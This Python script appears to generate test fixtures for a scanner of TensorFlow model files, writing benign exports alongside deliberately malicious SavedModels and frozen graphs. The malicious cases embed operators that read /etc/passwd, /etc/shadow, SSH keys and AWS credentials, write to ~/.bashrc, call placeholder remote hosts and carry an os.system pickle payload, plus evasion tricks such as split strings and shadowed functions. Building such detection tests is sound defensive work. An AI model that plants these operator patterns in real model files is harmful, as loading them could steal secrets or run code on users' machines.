"""SavedModels, frozen graphs, checkpoints. Needs tensorflow-cpu==2.21.0 (keras 3.15.1); writes malicious/ and benign/."""
import os
import pathlib
import shutil

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
os.environ["CUDA_VISIBLE_DEVICES"] = "-1"
import numpy as np
import tensorflow as tf
from google.protobuf import text_format
from tensorflow.core.framework import graph_pb2, node_def_pb2, types_pb2
from tensorflow.core.protobuf import meta_graph_pb2, saved_model_pb2
from tensorflow.python.keras.protobuf import saved_metadata_pb2

HERE = pathlib.Path(__file__).resolve().parent
BAD, GOOD = HERE / "malicious", HERE / "benign"
GD = graph_pb2.GraphDef


def save(folder, name, content):
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.SerializeToString(deterministic=True))


def node(graph, op, name=None, inputs=(), **attrs):
    made = graph.node.add(name=name or op.lower(), op=op, input=list(inputs))
    for key, value in attrs.items():
        if isinstance(value, bytes):
            made.attr[key].s = value
        elif isinstance(value, list):
            made.attr[key].list.s.extend(value)
        elif isinstance(value, int):
            made.attr[key].i = value
        elif isinstance(value, str):
            made.attr[key].func.name = value
        else:
            made.attr[key].CopyFrom(value)
    return made


def const(graph, name, text):
    made = graph.node.add(name=name, op="Const")
    made.attr["dtype"].type = types_pb2.DT_STRING
    made.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(text))
    return name


def graph():
    made = GD()
    made.versions.producer = 2000
    made.node.add(name="x", op="Placeholder").attr["dtype"].type = types_pb2.DT_FLOAT
    return made


def saved(graph_def, **more):
    made = saved_model_pb2.SavedModel(saved_model_schema_version=1)
    meta = made.meta_graphs.add()
    meta.meta_info_def.tags.append("serve")
    meta.meta_info_def.tensorflow_version = "2.21.0"
    meta.graph_def.CopyFrom(graph_def)
    return made


def one(op, inputs=(), **attrs):
    """A graph of one operator whose inputs of text are constants."""
    made = graph()
    names = [const(made, f"c{i}", text) if isinstance(text, (str, bytes)) else "x" for i, text in enumerate(inputs)]
    node(made, op, "hidden", names, **attrs)
    return made


def in_function(inner, name="__inference_serve_1"):
    """The same operators within a function of the library."""
    made = graph()
    function = made.library.function.add()
    function.signature.name = name
    for each in inner.node:
        function.node_def.add().CopyFrom(each)
    node(made, "StatefulPartitionedCall", "call", f=name)
    return made


def malicious():
    bad = lambda name, content: save(BAD, name, content)
    folder = lambda name, content: save(BAD, name + "/saved_model.pb", content)
    cases = {
        "write_file": one("WriteFile", ["/home/user/.bashrc", "echo never run"]),
        "write_file_relative": one("WriteFile", ["out.txt", "text"]),
        "write_file_dynamic": one("WriteFile", [None, "text"]),
        "read_file": one("ReadFile", ["/etc/passwd"]),
        "read_file_dynamic": one("ReadFile", [None]),
        "read_file_relative": one("ReadFile", ["secret.txt"]),
        "matching_files": one("MatchingFiles", ["/home/*/.ssh/*"]),
        "py_func": one("PyFunc", [None], token=b"pyfunc_0"),
        "py_func_stateless": one("PyFuncStateless", [None], token=b"pyfunc_0"),
        "eager_py_func": one("EagerPyFunc", [None], token=b"pyfunc_0"),
        "print_to_file": one("PrintV2", ["text"], output_stream=b"file:///tmp/out.txt"),
        "debug_to_file": one("DebugIdentity", [None], debug_urls=[b"file:///tmp/dump"]),
        "debug_to_network": one("DebugIdentityV3", [None], debug_urls=[b"grpc://collector.invalid:6007"]),
        "summary_writer": one("CreateSummaryFileWriter", [None, "/var/www/html", None, None, ""]),
        "summary_db": one("CreateSummaryDbWriter", [None, "/tmp/x.db", "a", "b", "c"]),
        "text_lines": one("TextLineDataset", ["/etc/shadow", "", None]),
        "records": one("TFRecordDataset", ["gs://bucket.invalid/x", "", None]),
        "fixed_records": one("FixedLengthRecordDatasetV2", ["/dev/mem", None, None, None, None, ""]),
        "csv": one("CSVDatasetV2", ["/etc/passwd"]),
        "sql": one("SqlDataset", ["sqlite", "/home/user/mail.db", "select 1"]),
        "save_dataset": one("SaveDataset", [None, "/tmp/out"]),
        "snapshot": one("SnapshotDatasetV2", [None, "/tmp/out", "", ""]),
        "cache_to_file": one("CacheDataset", [None, "/tmp/cache"]),
        "whole_file_reader": one("WholeFileReaderV2", []),
        "data_service": one("DataServiceDatasetV4", [None, None, "parallel", "grpc://service.invalid:5000", "grpc"]),
        "rpc_client": one("RpcClient", ["server.invalid:80"]),
        "rpc_server": one("RpcServer", ["0.0.0.0:8000"]),
        "remote_call": one("RemoteCall", ["/job:worker"], f="g"),
        "abort": one("Abort", [], error_msg=b"bye"),
        "decode_proto_file": one("DecodeProtoV2", [None], descriptor_source=b"/etc/passwd"),
        "checkpoint_absolute": one("SaveV2", ["/etc/cron.d/job", "t", "", None]),
        "checkpoint_in_serving": in_function(one("SaveV2", ["pwned", "t", "", None])),
        "restore_absolute": one("RestoreV2", ["/proc/self/mem", "t", ""]),
        "restore_url": one("RestoreV2", ["https://weights.invalid/ckpt", "t", ""]),
        "merge_deletes": one("MergeV2Checkpoints", ["../../other", "../../target"]),
        "custom_operator": one("ShellExecute", ["echo never run"]),
        "custom_operator_namespace": one("Evil>Run", [None]),
        "trt_engine": one("TRTEngineOp", [None], serialized_segment=b"ptrt\0\0\0\0"),
        "table_from_secret": one("InitializeTableFromTextFileV2", [None, "/home/user/.aws/credentials"]),
        "xla_callback": one("XlaCallModule", [None], module=b"ML\xefR\x0dxla_python_cpu_callback\0"),
        "constant_pickle": one("Identity", [b"cposix\nsystem\n(S'echo never run'\ntR."]),
        "constant_code": one("Identity", ["import os; os.system('echo never run')"]),
    }
    for name, made in cases.items():
        folder(name, saved(made))
    # the same in functions, nested functions, attributes of functions
    for name in ("write_file", "read_file", "py_func", "print_to_file", "custom_operator"):
        folder(name + "_in_function", saved(in_function(cases[name])))
    joined = graph()
    const(joined, "a", "/et")
    const(joined, "b", "c/passwd")
    node(joined, "StringJoin", "join", ["a", "b"])
    node(joined, "Identity", "id", ["join"])
    node(joined, "ReadFile", "read", ["id"])
    folder("read_file_joined", saved(joined))
    passed = graph()
    const(passed, "name", "/etc/passwd")
    function = passed.library.function.add()
    function.signature.name = "f"
    function.signature.input_arg.add(name="file", type=types_pb2.DT_STRING)
    node(function_graph := GD(), "ReadFile", "read", ["file"])
    function.node_def.add().CopyFrom(function_graph.node[0])
    node(passed, "StatefulPartitionedCall", "call", ["name"], f="f")
    folder("read_file_by_argument", saved(passed))
    inner = one("WriteFile", ["/tmp/x", "text"])
    outer = graph()
    const(outer, "graph", inner.SerializeToString())
    node(outer, "DatasetFromGraph", "dataset", ["graph"])
    folder("graph_in_constant", saved(outer))
    packed = graph()
    made = packed.node.add(name="c", op="Const")
    made.attr["dtype"].type = types_pb2.DT_STRING
    made.attr["value"].tensor.dtype = types_pb2.DT_STRING
    made.attr["value"].tensor.tensor_content = bytes([11]) + b"/etc/passwd"
    node(packed, "ReadFile", "read", ["c"])
    folder("read_file_packed_constant", saved(packed))
    shadow = in_function(cases["write_file"], "Relu")
    folder("function_shadows_relu", saved(shadow))
    loop = graph()
    for a, b in (("f", "g"), ("g", "f")):
        function = loop.library.function.add()
        function.signature.name = a
        node(holder := GD(), "PartitionedCall", "call", f=b)
        function.node_def.add().CopyFrom(holder.node[0])
    node(loop, "PartitionedCall", "call", f="f")
    folder("functions_in_circle", saved(loop))
    tower = graph()
    for i in range(40):
        function = tower.library.function.add()
        function.signature.name = f"f{i}"
        for k in range(2):
            node(holder := GD(), "PartitionedCall" if i else "NoOp", f"call{k}", **({"f": f"f{i - 1}"} if i else {}))
            function.node_def.add().CopyFrom(holder.node[0])
    node(tower, "PartitionedCall", "call", f="f39")
    folder("function_tower", saved(tower))
    asset = saved(graph())
    asset.meta_graphs[0].asset_file_def.add(filename="../../../etc/passwd").tensor_info.name = "x:0"
    folder("asset_traversal", asset)
    bomb = graph()
    made = bomb.node.add(name="c", op="Const")
    made.attr["value"].tensor.dtype = types_pb2.DT_FLOAT
    made.attr["value"].tensor.tensor_shape.dim.add(size=2**40)
    made.attr["value"].tensor.float_val.append(1)
    folder("constant_bomb", saved(bomb))
    second = saved(graph())
    second.meta_graphs.add().CopyFrom(saved(cases["write_file"]).meta_graphs[0])
    folder("second_meta_graph", second)
    lambda_layer = saved(graph())
    user = lambda_layer.meta_graphs[0].object_graph_def.nodes.add().user_object
    user.identifier = "_tf_keras_layer"
    user.metadata = '{"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}}}'
    folder("keras_lambda_in_objects", lambda_layer)
    # other containers of graphs, other names
    bad("frozen_write_file.pb", cases["write_file"])
    bad("frozen_py_func.pb", cases["py_func"])
    bad("frozen_custom.pb", cases["custom_operator"])
    bad("frozen_read_as.bin", cases["read_file"])
    meta = meta_graph_pb2.MetaGraphDef()
    meta.CopyFrom(saved(cases["read_file"]).meta_graphs[0])
    bad("read_file.meta", meta)
    bad("renamed_saved_model.bin", saved(cases["write_file"]))
    bad("truncated/saved_model.pb", saved(cases["py_func"]).SerializeToString()[:-9])
    bad("graph_twice/saved_model.pb", saved(graph()).SerializeToString()[:2] + b"\x12" + bytes([0]) + b"")
    twice = saved(graph()).meta_graphs[0].SerializeToString()
    extra = cases["print_to_file"].SerializeToString()
    length = lambda n: bytes([n & 0x7F | 0x80, n >> 7])
    twice += b"\x12" + length(len(extra)) + extra
    bad("graph_twice/saved_model.pb", b"\x08\x01\x12" + length(len(twice)) + twice)
    keras = saved_metadata_pb2.SavedMetadata()
    keras.nodes.add(node_id=1, node_path="root.layer-0", identifier="_tf_keras_layer", metadata=user.metadata)
    bad("keras_metadata.pb", keras)
    (BAD / "text").mkdir(parents=True, exist_ok=True)
    (BAD / "text/saved_model.pbtxt").write_text(text_format.MessageToString(saved(cases["write_file"])))
    (BAD / "frozen_py_func.pbtxt").write_text(text_format.MessageToString(cases["py_func"]))


def strip(folder, keep_assets=True):
    """Fingerprints hold random numbers; weights are not the point."""
    for each in folder.rglob("fingerprint.pb"):
        each.unlink()


def benign():
    tf.keras.utils.set_random_seed(0)
    layers = tf.keras.layers

    def export(name, model):
        model.export(str(GOOD / name), verbose=False)

    def build(*stack, shape=(4,)):
        return tf.keras.Sequential([tf.keras.Input(shape), *stack])

    export("dense", build(layers.Dense(3, activation="relu"), layers.Dense(2, activation="softmax")))
    export("conv", build(layers.Conv2D(2, 3), layers.BatchNormalization(), layers.MaxPooling2D(), layers.Flatten(), layers.Dense(2), shape=(8, 8, 1)))
    export("lstm", build(layers.LSTM(2), layers.Dense(1), shape=(4, 2)))
    export("gru_bidirectional", build(layers.Bidirectional(layers.GRU(2)), layers.Dense(1), shape=(4, 2)))
    export("embedding", build(layers.Embedding(10, 2), layers.GlobalAveragePooling1D(), layers.Dense(1), shape=(4,)))
    vectoriser = layers.TextVectorization(max_tokens=20, output_sequence_length=4)
    vectoriser.adapt(["the cat sat", "on the mat", "eval ( import os )"])
    text = tf.keras.Sequential([tf.keras.Input((), dtype="string"), vectoriser, layers.Embedding(20, 2), layers.GlobalAveragePooling1D(), layers.Dense(1)])
    export("text_vectorisation", text)
    normal = layers.Normalization()
    normal.adapt(np.arange(8, dtype=np.float32).reshape(2, 4))
    export("normalisation", build(normal, layers.Dense(1)))
    lookup = layers.StringLookup(vocabulary=["a", "b"], output_mode="one_hot")
    export("string_lookup", tf.keras.Sequential([tf.keras.Input((1,), dtype="string"), lookup, layers.Dense(1)]))

    class Adder(tf.Module):
        def __init__(self):
            super().__init__()
            self.v = tf.Variable(1.0)

        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
        def __call__(self, x):
            return x + self.v

    tf.saved_model.save(Adder(), str(GOOD / "module"))

    class Looper(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.int32)])
        def run(self, n):
            total = 0
            for i in tf.range(n):
                if i % 2 == 0:
                    total += i
                tf.print("step", i)
            return total

    looper = Looper()
    tf.saved_model.save(looper, str(GOOD / "control_flow"), signatures=looper.run)

    vocabulary = HERE / "vocabulary.txt"
    vocabulary.write_text("hello\nworld\n/bin/sh -c\n")

    class Lookup(tf.Module):
        def __init__(self):
            super().__init__()
            self.table = tf.lookup.StaticHashTable(tf.lookup.TextFileInitializer(
                str(vocabulary), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER), -1)

        @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
        def __call__(self, words):
            return self.table.lookup(tf.strings.lower(words))

    tf.saved_model.save(Lookup(), str(GOOD / "lookup_with_asset"))
    vocabulary.unlink()

    class Image(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
        def serve(self, images):
            decode = lambda one: tf.image.resize(tf.io.decode_png(one, 3), [4, 4])
            return tf.map_fn(decode, images, fn_output_signature=tf.float32)

    image = Image()
    tf.saved_model.save(image, str(GOOD / "images"), signatures=image.serve)

    class Parse(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
        def serve(self, examples):
            return tf.io.parse_example(examples, {"x": tf.io.FixedLenFeature([2], tf.float32)})

    parse = Parse()
    tf.saved_model.save(parse, str(GOOD / "examples"), signatures=parse.serve)

    # TensorFlow 1
    v1 = tf.compat.v1
    with tf.Graph().as_default() as old:
        x = v1.placeholder(tf.float32, [None, 2], "x")
        w = v1.get_variable("w", [2, 1], initializer=v1.zeros_initializer())
        y = tf.matmul(x, w, name="y")
        with v1.Session() as session:
            session.run(v1.global_variables_initializer())
            v1.saved_model.simple_save(session, str(GOOD / "simple_save"), {"x": x}, {"y": y})
            v1.train.Saver().save(session, str(GOOD / "checkpoint_v1" / "model.ckpt"), write_state=False)
            frozen = v1.graph_util.convert_variables_to_constants(session, old.as_graph_def(), ["y"])
    save(GOOD, "frozen.pb", frozen)
    save(GOOD, "frozen_graph", frozen)
    (GOOD / "frozen.pbtxt").write_text(text_format.MessageToString(frozen))
    save(GOOD, "train.pb", old.as_graph_def())
    tf.train.Checkpoint(v=tf.Variable([1.0, 2.0])).write(str(GOOD / "checkpoint_v2" / "ckpt"))
    keras = saved_metadata_pb2.SavedMetadata()
    keras.nodes.add(node_id=0, node_path="root", identifier="_tf_keras_sequential",
                    metadata='{"name": "sequential", "trainable": true, "class_name": "Sequential", "config": {"name": "sequential", "layers": [{"class_name": "Dense", "config": {"name": "dense", "units": 2}}]}}')
    keras.nodes[0].version.producer = 2
    save(GOOD, "keras_metadata.pb", keras)
    strip(GOOD)


if __name__ == "__main__":
    for folder in (BAD, GOOD):
        shutil.rmtree(folder, ignore_errors=True)
    malicious()
    benign()
